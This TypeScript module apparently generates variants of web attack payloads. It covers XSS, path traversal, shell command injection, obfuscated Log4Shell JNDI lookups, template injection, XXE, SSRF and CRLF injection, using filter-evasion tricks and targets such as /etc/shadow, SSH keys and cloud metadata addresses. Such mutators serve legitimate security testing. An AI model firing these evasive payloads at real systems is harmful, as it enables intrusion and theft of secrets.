import { chance, int, pick } from '../random.js'
import { letters } from './common.js'
import { eachMatch } from './step.js'
import type { Step } from './step.js'

const mixTags: Step = (text, random) =>
  eachMatch(
    text,
    /(?<=<\/?)[a-z]{1,10}(?=[\s>/])|\bon[a-z]{3,20}(?==)|\bjavascript(?=:)/gi,
    random,
    0.8,
    (word) =>
      [...word].map((char) => (chance(random, 0.5) ? char.toUpperCase() : char.toLowerCase())).join(''),
  )
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'oncopy',
  'onwheel',
]
const otherHandler: Step = (text, random) =>
  eachMatch(text, /\bon[a-z]{3,20}(?=\s*=)/gi, random, 0.6, () => pick(random, HANDLERS))
const tagSpaces: Step = (text, random) =>
  eachMatch(text, /(?<=<[a-z]{1,10})\s(?=[a-z])/gi, random, 0.8, () =>
    pick(random, ['/', '\t', '\n', '  ', '\f', '/x/']),
  )
const otherCall: Step = (text, random) =>
  eachMatch(text, /\b(?:alert|confirm|prompt)(?=[(`])/g, random, 0.7, () =>
    pick(random, [
      'alert',
      'confirm',
      'prompt',
      'print',
      'console.log',
      'window.alert',
      'top.alert',
      '(alert)',
      'eval',
    ]),
  )
const callArgument: Step = (text, random) =>
  text.replace(
    /((?:alert|confirm|prompt))\((?:\d+|'[^']*'|"[^"]*")\)/gi,
    (_all, call: string) =>
      `${call}(${pick(random, [String(int(random, 1, 9999)), 'document.domain', 'document.cookie', 'origin', `/${letters(random, 3, 6)}/`, '1337'])})`,
  )
const breakOut: Step = (text, random) =>
  text.startsWith('<')
    ? pick(random, ['">', "'>", '>', '"/>', '--></', '</title>', '</textarea>', '</script>']) + text
    : text
const attributeQuotes: Step = (text, random) =>
  text.replace(
    /(on[a-z]{3,20}=)([\w.]{1,20}\([\w.]{0,20}\))(?=[\s>])/gi,
    (_all, name: string, call: string) => {
      const quote = pick(random, ['"', "'", '`', ''])
      return `${name}${quote}${call}${quote}`
    },
  )
export const XSS_STEPS: readonly Step[] = [
  mixTags,
  otherHandler,
  tagSpaces,
  otherCall,
  callArgument,
  breakOut,
  attributeQuotes,
]

const depth: Step = (text, random) =>
  text.replace(/(?:\.\.[\\/]+){2,}/, (dots) =>
    (/\.\.[\\/]+/.exec(dots)?.[0] ?? '../').repeat(int(random, 2, 12)),
  )
const upStep: Step = (text, random) => {
  const up = pick(random, [
    '..\\',
    '....//',
    '..//',
    '.././',
    '..;/',
    '%2e%2e/',
    '..%2f',
    '..%5c',
    '%2e%2e%2f',
    '....\\/',
    '..\\/',
    '%252e%252e%252f',
    '..%c0%af',
    '.%2e/',
    '/../',
  ])
  return text.replace(/\.\.\//g, () => up)
}
const nullEnd: Step = (text, random) =>
  text + pick(random, ['\0', '%00', '\0.jpg', '%00.html', '?', '.', '#', '/.'])
const absoluteBefore: Step = (text, random) =>
  text.startsWith('..')
    ? pick(random, [
        '/',
        `${letters(random, 3, 8)}/`,
        '/var/www/',
        './',
        `${letters(random, 3, 6)}.php/`,
        'file://',
        '/static/',
      ]) + text
    : text
const FILES = [
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'etc/group',
  'proc/self/environ',
  'proc/version',
  'etc/issue',
  'root/.ssh/id_rsa',
  'var/log/apache2/access.log',
  'etc/mysql/my.cnf',
  'proc/self/cmdline',
]
const otherFile: Step = (text, random) => text.replace(/etc\/passwd\b/, () => pick(random, FILES))
export const TRAVERSAL_STEPS: readonly Step[] = [depth, upStep, nullEnd, absoluteBefore, otherFile, depth]

const separator: Step = (text, random) =>
  text.replace(/^(?:;|\|\|?|&&?|\n)(?=\s*[a-z/])/i, () =>
    pick(random, [';', '|', '||', '&', '&&', '\n', ';;', '|&', '\r\n', '%0a', "';", '";', '`;']),
  )
const shellSpace: Step = (text, random) => {
  const space = pick(random, ['${IFS}', '$IFS$9', '\t', '<', '  ', '${IFS%??}', '$IFS'])
  return eachMatch(
    text,
    /(?<=\b(?:cat|ls|ping|curl|wget|sleep|nslookup|id|uname)(?: -[a-z]+)?) (?=[/\w.-])/gi,
    random,
    0.9,
    () => space,
  )
}
const NAMES = [
  'cat',
  'id',
  'whoami',
  'ls',
  'uname',
  'curl',
  'wget',
  'ping',
  'nslookup',
  'sleep',
  'bash',
  'sh',
]
const splitName: Step = (text, random) =>
  eachMatch(text, new RegExp(`(?<=^|[;|&\`( ])(?:${NAMES.join('|')})\\b(?!=)`, 'g'), random, 0.7, (name) => {
    const cut = int(random, 1, name.length - 1)
    const glue = pick(random, ["''", '""', '\\', '$@', '$u', '``'])
    return name.slice(0, cut) + glue + name.slice(cut)
  })
const wrapCommand: Step = (text, random) => {
  const bare = /^(?:;|\|\|?|&&?)\s*(.+)$/s.exec(text)?.[1]
  return bare === undefined
    ? text
    : pick(random, [
        `$(${bare})`,
        `\`${bare}\``,
        `;${bare};`,
        `|${bare}|`,
        `&&${bare}&&`,
        `|| ${bare} #`,
        `";${bare};"`,
        `'|${bare}'`,
      ])
}
const fullPath: Step = (text, random) =>
  eachMatch(
    text,
    /(?<=^|[;|&`( ])(?:cat|ls|id|uname|curl|wget|sh|bash)(?=\s)/g,
    random,
    0.6,
    (name) => `${pick(random, ['/bin/', '/usr/bin/'])}${name}`,
  )
export const RCE_STEPS: readonly Step[] = [separator, shellSpace, splitName, wrapCommand, fullPath]

const jndiHide: Step = (text, random) => {
  const spelled = (word: string): string =>
    [...word]
      .map((char) =>
        pick(random, [
          char,
          `\${lower:${char}}`,
          `\${::-${char}}`,
          `\${upper:${char}}`,
          `\${env:${letters(random, 2, 4)}:-${char}}`,
        ]),
      )
      .join('')
  return text.replace(
    /\$\{jndi:(ldaps?|rmi|dns)(?=:)/i,
    (_all, scheme: string) => `\${${spelled('jndi')}:${spelled(scheme)}`,
  )
}
const products: Step = (text, random) =>
  text.replace(
    /(?<=\{\{?|\$\{|#\{|%\{|<%=\s?)\s*\d+\s*\*\s*'?\d+'?/g,
    () => `${int(random, 2, 9999)}*${int(random, 2, 9999)}`,
  )
const innerSpace: Step = (text) => text.replace(/\{\{\s*(?=\S)/g, '{{ ').replace(/(?<=\S)\s*\}\}/g, ' }}')
const otherCommand: Step = (text, random) =>
  text.replace(/(?<=['"])(?:id|whoami|ls|cat \/etc\/passwd|calc(?:\.exe)?|uname -a)(?=['"])/g, () =>
    pick(random, [
      'id',
      'whoami',
      'ls -la',
      'cat /etc/passwd',
      'uname -a',
      'hostname',
      'env',
      `curl ${letters(random, 4, 9)}.oast.fun`,
      'ifconfig',
      'calc.exe',
      `touch /tmp/${letters(random, 3, 6)}`,
    ]),
  )
export const CODE_STEPS: readonly Step[] = [jndiHide, products, innerSpace, otherCommand]

const operator: Step = (text, random) =>
  text.replace(/\$(?:ne|gt|gte|lt|regex|exists|nin|in)\b/g, () =>
    pick(random, ['$ne', '$gt', '$gte', '$lt', '$regex', '$exists', '$nin', '$in', '$not']),
  )
const filterName: Step = (text, random) =>
  text.replace(/(?<=\()(?:uid|cn|user|mail)(?==)/g, () =>
    pick(random, ['uid', 'cn', 'sn', 'mail', 'sAMAccountName', 'givenName', 'userPassword', 'ou']),
  )
export const QUERY_STEPS: readonly Step[] = [operator, filterName, operator]

const entityName: Step = (text, random) => {
  const name = /<!ENTITY\s+(?:%\s+)?(\w{1,20})/.exec(text)?.[1]
  if (name === undefined) return text
  const other = letters(random, 1, 8)
  return text.replace(new RegExp(`(?<=<!ENTITY\\s+(?:%\\s+)?|[&%])${name}(?=[\\s;])`, 'g'), other)
}
const entityFile: Step = (text, random) =>
  text.replace(/file:\/\/\/etc\/passwd/, () =>
    pick(random, [
      'file:///etc/hosts',
      'file:///c:/windows/win.ini',
      'file:///proc/self/environ',
      'file:///etc/shadow',
      'file:/etc/passwd',
      'file:///dev/random',
      'php://filter/read=convert.base64-encode/resource=/etc/passwd',
    ]),
  )
const quoteStyle: Step = (text) => text.replace(/(SYSTEM\s+)"([^"']*)"/g, "$1'$2'")
export const XXE_STEPS: readonly Step[] = [entityName, entityFile, quoteStyle]

const LOOPS = [
  '127.0.0.1',
  'localhost',
  '127.1',
  '0.0.0.0',
  '0',
  '[::1]',
  '2130706433',
  '0x7f000001',
  '017700000001',
  '0177.0.0.1',
  '127.0.0.2',
  '[::ffff:127.0.0.1]',
  '[::]',
  '127.0.1',
]
const METADATA = [
  '169.254.169.254',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '[::ffff:a9fe:a9fe]',
  '[fd00:ec2::254]',
  '169.254.43518',
  '0xa9.0xfe.0xa9.0xfe',
]
const loopback: Step = (text, random) =>
  text.replace(/(?<=\/\/|@)(?:127\.0\.0\.1|localhost)\b/g, () => pick(random, LOOPS))
const metadata: Step = (text, random) => text.replace(/\b169\.254\.169\.254\b/g, () => pick(random, METADATA))
const port: Step = (text, random) =>
  text.replace(
    /(?<=\/\/[\w.[\]:-]{1,40}):\d{2,5}\b/,
    () =>
      `:${pick(random, [22, 25, 80, 443, 3306, 5432, 6379, 8080, 9200, 11211, int(random, 1000, 65000)])}`,
  )
const userPart: Step = (text, random) =>
  text.replace(/(?<=^https?:\/\/)(?=[\w[])/i, () =>
    pick(random, [
      '',
      `${letters(random, 3, 8)}@`,
      `${letters(random, 3, 6)}.com@`,
      `${letters(random, 3, 6)}:${letters(random, 3, 6)}@`,
    ]),
  )
export const SSRF_STEPS: readonly Step[] = [loopback, metadata, port, userPart, metadata]

const lineBreak: Step = (text, random) => {
  const end = pick(random, [
    '\r\n',
    '\n',
    '\r',
    '%0d%0a',
    '%0a',
    '%0D%0A',
    '\u560d\u560a',
    '\\r\\n',
    '%E5%98%8D%E5%98%8A',
  ])
  return text.replace(/\r\n|\n|\r/g, () => end)
}
const headerName: Step = (text, random) =>
  text.replace(
    /(?<=[\n\r])Set-Cookie: *\w+=\w*/i,
    () =>
      `${pick(random, ['Set-Cookie', 'Location', 'X-Injected', 'Content-Type', 'Refresh', 'X-Forwarded-For', 'Link'])}: ${letters(random, 2, 8)}=${letters(random, 2, 8)}`,
  )
export const CRLF_STEPS: readonly Step[] = [lineBreak, headerName, lineBreak]
